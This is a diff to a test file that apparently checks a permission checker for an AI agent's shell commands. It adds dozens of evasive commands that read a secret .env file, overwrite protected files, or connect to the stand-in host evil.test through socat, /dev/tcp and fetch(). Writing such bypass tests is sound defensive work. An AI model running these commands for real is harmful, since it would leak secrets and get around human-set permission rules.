@@ -52,6 +52,32 @@ const READ = [
   "xxd link",
   "cp link copy",
   "python3 deep/../key",
+  `cat \${x:-.env}`,
+  `cat "\${x-.env}"`,
+  `cat < \${x:-.env}`,
+  `cp \${x:=.env} copy`,
+  "cat ~+/.env",
+  "git show HEAD:.env",
+  "git show :.env",
+  "git log -p -- .env",
+  "git blame .env",
+  "git cat-file -p HEAD:.env",
+  "git diff --no-index b.ts .env",
+  "git -C secret show HEAD:./key",
+  "tar -C secret -cf x.tar key",
+  "bash <<'END'\ncat .env\nEND",
+  "sh <<END\ncat .env\nEND",
+  "bash -s x <<'END'\ncat .env\nEND",
+  "bash <<< 'cat .env'",
+  "echo cat .env | sh",
+  "printf 'cat .env\\n' | bash",
+  "echo 'cat .env' | sudo sh",
+  `awk 'BEGIN { while ((getline l < ".env") > 0) print l }'`,
+  "sed 'r .env' b.ts",
+  "sed -e 1r.env b.ts",
+  `node -p "require('fs').readFileSync('.env', 'utf8')"`,
+  `python3 -c 'print(open(".env").read())'`,
+  `perl -e 'open F, ".env"; print <F>'`,
 ];
 
 test.each(READ)("a file that no rule lets be read is not read by: %s", async (line) => {
@@ -72,6 +98,16 @@ const WRITTEN = [
   "sed -ni.bak p src/../src/a.ts",
   "sed --in-place s/a/b/ src/*",
   "perl -pi -e 1 src/a.ts",
+  "git checkout -- src/a.ts",
+  "git checkout HEAD~1 src/a.ts",
+  "git restore src/a.ts",
+  "git -C src checkout -- a.ts",
+  "git mv b.ts src/a.ts",
+  "git rm src/a.ts",
+  "git clean -f src/a.ts",
+  "git apply --include=src/a.ts p",
+  "bash <<'END'\ncp b.ts src/a.ts\nEND",
+  "echo 'echo x > src/a.ts' | bash",
 ];
 
 test.each(WRITTEN)("a file that no rule lets be written is not written by: %s", async (line) => {
@@ -90,8 +126,23 @@ test.each([
   "perl -ne 1 src/a.ts",
   "cat src/../src/a.ts",
   "echo x > src/../b.ts",
+  "git show HEAD:b.ts",
+  "git checkout -- b.ts",
+  "git checkout main",
+  "git log --oneline",
+  `cat \${x:-b.ts}`,
+  "bash <<'END'\ncat b.ts\nEND",
+  "echo 'cat b.ts' | sh",
+  `python3 -c 'print(open("b.ts").read())'`,
+  "python3 src/a.py",
+  "sed 'r b.ts' b.ts",
+  "tar -xzf T.tgz",
 ])("files beside those are as free as before: %s", async (line) => {
   expect(await outcomeOf(line, "Read(**/.env)", "read(secret/**)", "edit(src/**)")).toBe("allow");
+});
+
+test("an identity of ssh is no list of hosts", async () => {
+  expect(await outcomeOf("ssh -i key a.test", "WebFetch(domain:evil.test)")).toBe("allow");
 });
 
 test("braces that stand for very many files are asked about, and not all looked up", async () => {
@@ -101,11 +152,45 @@ test("braces that stand for very many files are asked about, and not all looked 
 });
 
 test.each([
+  `node -e "require('fs').writeFileSync('src/a.ts', '')"`,
+  `python3 -c 'open("src/a.ts", "w")'`,
+  `awk 'BEGIN { print "x" > "src/a.ts" }'`,
+  "sed -n 'w src/a.ts' b.ts",
+])("whether a script writes what it mentions cannot be told, so it is asked about: %s", async (line) => {
+  expect(await outcomeOf(line, "edit(src/**)")).toBe("ask");
+  expect(await outcomeOf(line, "edit(other/**)")).toBe("allow");
+});
+
+test.each(["tar cT list", "tar -cf x.tar --files-from=list", "wc --files0-from=list", "cpio -o < list"])(
+  "so it is where a list says which files are read: %s",
+  async (line) => {
+    expect(await outcomeOf(line, "Read(**/.env)")).toBe("ask");
+    expect(await outcomeOf(line, "edit(src/**)")).toBe("allow");
+  },
+);
+
+test.each(["curl -sK list", "curl --config list", "wget -i list", "aria2c --input-file=list"])(
+  "and where it says which hosts are reached: %s",
+  async (line) => {
+    expect(await outcomeOf(line, "WebFetch(domain:evil.test)")).toBe("ask");
+    expect(await outcomeOf(line)).toBe("allow");
+  },
+);
+
+test.each([
+  "socat - TCP:evil.test:80",
+  "socat - TCP4:evil.test:80,crlf",
+  "curl --connect-to a.test:80:evil.test:80 http://a.test",
+  "curl --resolve a.test:80:evil.test http://a.test",
+  "ssh -L 1:evil.test:80 a.test",
+  "python3 -m pip install https://evil.test/x",
+  `node -e "fetch('http://evil.test/')"`,
+  "echo 'curl evil.test' | sh",
   "echo x > /dev/tcp/evil.test/80",
   "exec 3<>/dev/tcp/EVIL.test/80",
   "cat < /dev/udp/evil.test/53",
   "curl a.test > /dev/tcp/evil.test/80",
-])("a host that a redirection connects to is named by it: %s", async (line) => {
+])("a host that a command, or a redirection, connects to is named by it: %s", async (line) => {
   expect(await outcomeOf(line, "WebFetch(domain:evil.test)")).toBe("deny");
   expect(await outcomeOf(line, "WebFetch(domain:other.test)")).toBe("allow");
 });
